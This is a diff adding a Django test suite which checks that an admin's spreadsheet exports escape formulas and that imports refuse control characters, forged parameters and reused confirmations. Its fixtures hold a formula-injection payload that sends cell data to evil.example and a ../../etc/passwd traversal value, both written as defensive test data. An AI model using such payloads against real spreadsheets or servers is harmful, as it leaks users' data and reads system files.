@@ -1,0 +1,273 @@
+"""Every import and export of the admin goes through anso/spreadsheets.py: formulas are escaped,
+control characters never fail an export, imported cells are one line, hand-made parameters are
+a 400."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+import tablib
+from django.contrib import admin
+from django.contrib.auth.models import Group
+from django.urls import reverse
+from import_export.admin import ExportMixin, ImportMixin
+
+from anso.spreadsheets import FORMULA_STARTS, OneLineCellsMixin, escape_formula, unescape_formula
+from meetings.resources import ParticipantResource
+from members.resources import OrganizationResource, PersonResource
+from members.roles import SECRETARIAT_GROUP
+
+from .factories import (
+    MeetingFactory,
+    OrganizationFactory,
+    ParticipationFactory,
+    PersonFactory,
+    PositionFactory,
+    UserFactory,
+)
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def _admins(mixin):
+    return [
+        pytest.param(model_admin, id=model._meta.label_lower)
+        for model, model_admin in admin.site._registry.items()
+        if isinstance(model_admin, mixin)
+    ]
+
+
+@pytest.fixture
+def hostile_records():
+    """Names as a visitor could have typed them before control characters were refused."""
+    organization = OrganizationFactory(name="=2+3", short_name="@SUM(1+1)")
+    person = PersonFactory(
+        honorific="=2+3",
+        given_name=HYPERLINK,
+        family_name="@SUM(1+1)\x01\x0b",
+        phone="-5",
+        organization=organization,
+    )
+    PositionFactory(person=person, appointed_by=organization)
+    ParticipationFactory(person=person, organization=None, organization_name="+1 and\x0b=1")
+    return person
+
+
+def _export(client, model_admin, resource_index, format_index):
+    info = model_admin.model._meta.app_label, model_admin.model._meta.model_name
+    url = reverse("admin:{}_{}_export".format(*info))
+    form = client.get(url).context["form"]
+    data = {"format": str(format_index), "resource": str(resource_index)}
+    for name, field in form.fields.items():
+        if getattr(field, "resource_index", None) == resource_index:
+            data[name] = "on"
+    return client.post(url, data)
+
+
+def _cells(response, format_name):
+    if format_name == "csv":
+        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    return [cell.value for row in book.active.iter_rows() for cell in row]
+
+
+@pytest.mark.parametrize("model_admin", _admins(ExportMixin))
+@pytest.mark.parametrize("format_name", ["csv", "xlsx"])
+def test_every_export_escapes_formulas(
+    secretariat_client, secretariat_user, rf, hostile_records, model_admin, format_name
+):
+    formats = [f().get_title() for f in model_admin.get_export_formats()]
+    assert format_name in formats
+    request = rf.get("/")
+    request.user = secretariat_user
+    resources = model_admin.get_export_resource_classes(request)
+    for index, resource in enumerate(resources):
+        response = _export(secretariat_client, model_admin, index, formats.index(format_name))
+        assert response.status_code == 200, resource
+        assert response["Content-Type"].startswith(("text/csv", "application/vnd.openxml"))
+        cells = [cell for cell in _cells(response, format_name) if isinstance(cell, str)]
+        live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and cell != "-5"]
+        assert live == [], resource
+        assert any(cell.startswith(("'=", "'@", "'+")) for cell in cells), (
+            f"{resource.__name__} exported none of the hostile values"
+        )
+
+
+def test_export_escapes_the_examples_of_the_report(secretariat_client, hostile_records):
+    model_admin = admin.site._registry[type(hostile_records)]
+    cells = _cells(_export(secretariat_client, model_admin, 0, 0), "csv")
+    assert "'" + HYPERLINK in cells
+    assert "'=2+3" in cells
+    assert "-5" in cells  # a number stays a number
+    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
+    sheet = _cells(_export(secretariat_client, model_admin, 0, 1), "xlsx")
+    assert "'" + HYPERLINK in sheet
+    assert "'@SUM(1+1)\N{REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER}" in sheet
+
+
+@pytest.mark.parametrize(
+    ("value", "escaped"),
+    [
+        ("=2+3", "'=2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("+86 10 6859 7000", "'+86 10 6859 7000"),
+        ("-1+2", "'-1+2"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-5", "-5"),
+        ("+3.25", "+3.25"),
+        ("-1e3", "-1e3"),
+        (-5, -5),
+        ("Wang", "Wang"),
+        ("'t Hooft", "'t Hooft"),
+    ],
+)
+def test_escape_formula_and_back(value, escaped):
+    assert escape_formula(value) == escaped
+    assert unescape_formula(escaped) == value
+
+
+def test_exported_file_imports_unchanged(secretariat_client):
+    """The apostrophe of an escaped cell is read back off on import."""
+    organization = OrganizationFactory(name="=Formula Institute")
+    model_admin = admin.site._registry[type(organization)]
+    exported = _export(secretariat_client, model_admin, 0, 0).content
+    assert b"'=Formula Institute" in exported
+    organization.delete()
+    upload = io.BytesIO(exported)
+    upload.name = "organizations.csv"
+    response = secretariat_client.post(
+        reverse("admin:members_organization_import"), {"import_file": upload, "format": "0"}
+    )
+    assert response.status_code == 200
+    confirm = response.context["confirm_form"].initial
+    response = secretariat_client.post(
+        reverse("admin:members_organization_process_import"), confirm
+    )
+    assert response.status_code == 302
+    assert type(organization).objects.filter(name="=Formula Institute").exists()
+
+
+# --- imports: one line per cell ------------------------------------------------------------
+
+
+def _rows(resource_class):
+    meeting = MeetingFactory()
+    if resource_class is OrganizationResource:
+        return ["name", "short_name"], ["Good Institute", "GI"], "name"
+    if resource_class is PersonResource:
+        return ["email", "family_name", "given_name"], ["a@example.org", "Li", "Na"], "given_name"
+    return (
+        ["meeting", "email", "family_name", "given_name"],
+        [meeting.slug, "a@example.org", "Li", "Na"],
+        "family_name",
+    )
+
+
+@pytest.mark.parametrize(
+    "resource_class", [OrganizationResource, PersonResource, ParticipantResource]
+)
+@pytest.mark.parametrize("bad", ["\x01", "\x0b", "\n", "\r\n", "\u2028"])
+def test_import_row_with_a_control_character_fails_naming_the_column(resource_class, bad):
+    headers, good_row, column = _rows(resource_class)
+    bad_row = list(good_row)
+    bad_row[headers.index(column)] = f"Bad{bad}Name"
+    if "email" in headers:
+        bad_row[headers.index("email")] = "b@example.org"
+    dataset = tablib.Dataset(good_row, bad_row, headers=headers)
+    result = resource_class().import_data(dataset, dry_run=True)
+    assert result.has_validation_errors()
+    [invalid] = result.invalid_rows
+    assert invalid.number == 2
+    assert f"“{column}”" in " ".join(invalid.error_dict[column])
+
+
+@pytest.mark.parametrize("model_admin", _admins(ImportMixin))
+def test_every_import_resource_checks_its_cells(model_admin, rf, secretariat_user):
+    request = rf.get("/")
+    request.user = secretariat_user
+    for resource in model_admin.get_import_resource_classes(request):
+        assert issubclass(resource, OneLineCellsMixin), resource
+
+
+def test_admin_import_reports_the_column(secretariat_client):
+    upload = io.BytesIO(b"name,short_name\nGood,G\nBad\x01Name,B\n")
+    upload.name = "organizations.csv"
+    response = secretariat_client.post(
+        reverse("admin:members_organization_import"), {"import_file": upload, "format": "0"}
+    )
+    assert response.status_code == 200
+    assert "The column “name” holds a line break or an invisible control" in (
+        response.content.decode()
+    )
+    assert "confirm_form" not in response.context or not response.context["confirm_form"]
+
+
+# --- hand-made parameters ----------------------------------------------------------------
+
+
+def _urls(model_admin, action):
+    info = model_admin.model._meta.app_label, model_admin.model._meta.model_name
+    return reverse("admin:{}_{}_{}".format(*info, action))
+
+
+@pytest.mark.parametrize("model_admin", _admins(ImportMixin))
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"format": "99"},
+        {"format": "x"},
+        {"format": "0", "resource": "9"},
+        {"format": "0", "import_file_name": "passwd", "original_file_name": "a.csv"},
+        {"format": "0", "import_file_name": "../../etc/passwd", "original_file_name": "a.csv"},
+        {"format": "99", "import_file_name": "x", "original_file_name": "a.csv"},
+    ],
+)
+def test_hand_made_import_parameters_are_a_400(secretariat_client, model_admin, data):
+    for action in ("import", "process_import"):
+        if action == "import" and "import_file_name" in data and data["format"] == "0":
+            continue  # the upload step takes no file name
+        response = secretariat_client.post(_urls(model_admin, action), data)
+        assert response.status_code == 400, (action, data)
+        assert b"Bad request" in response.content
+
+
+@pytest.mark.parametrize("model_admin", _admins(ExportMixin))
+@pytest.mark.parametrize(
+    "data", [{"format": "99"}, {"format": "-1"}, {"format": "0", "resource": "7"}]
+)
+def test_hand_made_export_parameters_are_a_400(secretariat_client, model_admin, data):
+    response = secretariat_client.post(_urls(model_admin, "export"), data)
+    assert response.status_code == 400
+    assert "is not a" in response.content.decode()
+
+
+def test_a_confirmed_import_cannot_be_confirmed_twice(secretariat_client):
+    upload = io.BytesIO(b"name,short_name\nGood Institute,GI\n")
+    upload.name = "organizations.csv"
+    response = secretariat_client.post(
+        reverse("admin:members_organization_import"), {"import_file": upload, "format": "0"}
+    )
+    confirm = response.context["confirm_form"].initial
+    url = reverse("admin:members_organization_process_import")
+    assert secretariat_client.post(url, confirm).status_code == 302
+    again = secretariat_client.post(url, confirm)
+    assert again.status_code == 400
+    assert "Upload it again" in again.content.decode()
+
+
+def test_another_users_file_name_is_refused(secretariat_client, client):
+    upload = io.BytesIO(b"name,short_name\nGood Institute,GI\n")
+    upload.name = "organizations.csv"
+    response = secretariat_client.post(
+        reverse("admin:members_organization_import"), {"import_file": upload, "format": "0"}
+    )
+    confirm = response.context["confirm_form"].initial
+    colleague = UserFactory(username="colleague", is_staff=True)
+    colleague.groups.add(Group.objects.get(name=SECRETARIAT_GROUP))
+    client.force_login(colleague)
+    response = client.post(reverse("admin:members_organization_process_import"), confirm)
+    assert response.status_code == 400
